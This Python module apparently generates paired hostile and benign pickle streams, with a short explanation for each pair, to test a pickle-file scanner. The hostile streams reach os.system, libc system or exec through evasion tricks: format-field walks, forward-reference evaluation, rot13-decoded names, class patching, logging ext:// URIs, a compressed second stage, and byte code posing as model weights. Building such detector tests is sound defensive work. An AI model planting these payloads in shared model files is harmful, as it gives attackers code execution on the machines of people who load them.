"""Pickle streams and resolver chains."""
import base64
import codecs
import importlib.util
import marshal
import pickle as std
import zlib

from assembly import Raw, build, call, dot, glob, model, new, old, pickle, raw_bytes, seq, val
from pair import CODE, SHELL

from .shared import floats

F = "pickle"


def pair(out, name, hostile, twin, why, file="model.pkl", prove="pickle"):
    h = hostile if isinstance(hostile, (dict, bytes)) and not isinstance(hostile, Raw) else pickle(model(hostile))
    t = twin if isinstance(twin, (dict, bytes)) and not isinstance(twin, Raw) else pickle(model(twin))
    out.add(F, name, h, t, prove=prove, file=file, why=why)


def add(out):
    # str.format's field syntax walks attributes and items: no getattr, no module name of the target.
    field = call(dot("string", "Formatter.get_field"), call(glob("string", "Formatter")), "0._rmtree.__func__.__globals__[_os].system", (glob("tempfile", "TemporaryDirectory"),), {})
    pair(out, "format-field-walk", call(call(call(glob("operator", "itemgetter"), 0), field), SHELL),
         call(glob("string", "Template"), "epoch $epoch of $total, loss $loss"),
         "A format field resolves os.system through a library class, and REDUCE calls it.")

    # Forward references are evaluated as code.
    hints = lambda: call(glob("types", "SimpleNamespace"))  # noqa: E731
    pair(out, "forward-reference",
         call(glob("typing", "get_type_hints"), build(hints(), {"__annotations__": {"threshold": CODE, "labels": "list"}})),
         build(hints(), {"__annotations__": {"threshold": "float", "labels": "list"}}),
         "typing.get_type_hints evaluates annotation strings: the string is the payload.")

    # partial.__setstate__ swaps the function after the object was made.
    aim = lambda f, a, first=None: build(new(glob("functools", "partial"), first or glob("builtins", "len")), (f, a, {}, None))  # noqa: E731
    pair(out, "partial-re-aimed",
         call(glob("operator", "getitem"), call(glob("collections", "defaultdict"), aim(old("posix", "system"), (SHELL,))), "classes"),
         call(glob("collections", "defaultdict"), aim(glob("builtins", "int"), ("0",), glob("builtins", "int"))),
         "BUILD replaces what a partial calls; a missing key of a defaultdict calls it.")

    # The C library as a mapping of functions.
    pair(out, "libc-by-subscript",
         call(call(glob("operator", "getitem"), call(glob("ctypes", "CDLL"), None), "system"), SHELL.encode()),
         call(call(glob("operator", "itemgetter"), "system"), {"system": b"linux", "host": b"trainer"}),
         "ctypes.CDLL(None)['system'] is libc's system().")

    # The memo index written with a space: int() strips it, a byte-wise reader makes another key.
    word = lambda w: b"X" + len(w).to_bytes(4, "little") + w.encode()  # noqa: E731
    memo = lambda words, keys, arg: b"\x80\x02(" + b"".join(word(w) + k + b"0" for w, k in zip(words, keys)) + b"h\x07g%s\n\x93" + word(arg) + b"\x85Rl."  # noqa: E731
    pair(out, "memo-index-with-blanks", memo(["collections", "posix", "OrderedDict", "system"], [b"p7\n", b"p 7 \n", b"q\x08", b"p+8\n"], SHELL).replace(b"%s", b" 08"),
         memo(["posix", "collections", "system", "deque"], [b"p6\n", b"p7\n", b"q\x09", b"p8\n"], SHELL).replace(b"%s", b"8"),
         "PUT ' 7 ' overwrites memo 7: a reader that keeps the text as key sees another callable.")

    # The names exist only after they are computed while loading.
    names = call(dot("builtins", "str.split"), call(glob("codecs", "decode"), codecs.encode("posix:popen", "rot13"), "rot13"), ":")
    module = call(glob("importlib", "import_module"), call(dot("builtins", "list.pop"), names, 0))
    chain = call(glob("functools", "reduce"), glob("builtins", "getattr"), [call(glob("builtins", "format"), call(dot("builtins", "str.swapcase"), "SYSTEM"), "s")], module)
    pair(out, "names-computed", call(chain, SHELL),
         val({"codec": "rot13", "text": codecs.encode("cat, dog", "rot13")}),
         "Module and attribute are decoded, split and case-folded at load before getattr.")

    # A class attribute is replaced through BUILD's slot state; then a harmless function is called.
    patch = build(dot("json", "JSONDecoder"), (None, {"decode": old("posix", "system")}))
    pair(out, "class-patched-then-json", seq(patch, call(glob("json", "loads"), SHELL)),
         build(new(dot("json", "JSONDecoder")), (None, {"strict": True})),
         "JSONDecoder.decode becomes os.system; json.loads then runs its text.")

    # A configurator resolves names for whoever asks.
    conv = lambda uri: call(dot("logging.config", "BaseConfigurator.convert"), call(dot("logging.config", "BaseConfigurator"), {"version": 1}), uri)  # noqa: E731
    pair(out, "logging-ext-uri", call(conv("ext://os.system"), SHELL), val({"version": 1, "handlers": {"out": {"class": "logging.StreamHandler", "stream": "ext://sys.stdout"}}}),
         "logging's ext:// protocol imports os.system, which is then called.")

    # The second stage sits compressed in base85 and goes to an alias of pickle.loads.
    inner = pickle(call(glob("builtins", "exec"), CODE))
    stage = lambda blob: base64.b85encode(zlib.compress(blob))  # noqa: E731
    pair(out, "second-stage-b85", call(dot("multiprocessing.connection", "_ForkingPickler.loads"), call(glob("zlib", "decompress"), call(glob("base64", "b85decode"), stage(inner)))),
         raw_bytes(stage(std.dumps({"vocab": ["a", "b"], "weights": [0.5] * 40}, 4))),
         "A compressed pickle reaches pickle.loads under another name.")

    # A sibling 'weight' file is byte code, and a loader of the import system runs it.
    pyc = importlib.util.MAGIC_NUMBER + bytes(12) + marshal.dumps(compile(CODE, "weights", "exec"))
    load = call(dot("importlib.machinery", "SourcelessFileLoader.load_module"), call(dot("importlib.machinery", "SourcelessFileLoader"), "w0", "weights.bin"))
    pair(out, "byte-code-as-weights", {"model.pkl": pickle(model(load)), "weights.bin": pyc},
         {"model.pkl": pickle(model(call(glob("pathlib", "PurePosixPath"), "weights.bin"))), "weights.bin": floats(64)},
         "The pickle imports weights.bin as compiled Python.")

    # copyreg's constructor of protocol 0 calls base.__init__ with the state.
    pair(out, "reconstructor-runs-init",
         b"ccopy_reg\n_reconstructor\np0\n(cimaplib\nIMAP4_stream\np1\ncimaplib\nIMAP4_stream\nV" + SHELL.encode() + b"\ntR.",
         b"ccopy_reg\n_reconstructor\np0\n(ccollections\nUserString\np1\nc__builtin__\nobject\nNtR(dp2\nVdata\nVtouch marker\nsb.",
         "_reconstructor(IMAP4_stream, IMAP4_stream, command) runs the constructor, which starts a shell.")

    # exec under __main__.__builtins__, and the stream breaks after it has run.
    bad = pickle(model(call(dot("__main__", "__builtins__", "exec"), CODE)))[:-9] + b"\xff\xfe"
    pair(out, "main-builtins-then-broken", bad, pickle({"epoch": 1, "entry": "__main__", "extra": {"__builtins__": "exec"}}),
         "Dotted name through __main__.__builtins__; the payload runs before the stream fails.")

    # copyreg registry: a code is given to a callable and used two pickles later.
    pair(out, "extension-across-pickles", b"".join(
        [pickle(model(call(glob("copyreg", "add_extension"), "posix", "system", 0x41424344))), pickle({"step": 2}), b"\x80\x02\x84" + (0x41424344).to_bytes(4, "little") + b"X\x0c\0\0\0" + SHELL.encode() + b"\x85R."]),
        b"".join([pickle(model({"code": 0x41424344})), pickle({"step": 2}), b"\x80\x02X\x0c\0\0\0" + SHELL.encode() + b"\x85."]),
        "EXT4 in the third stacked pickle names the callable that the first registered.")
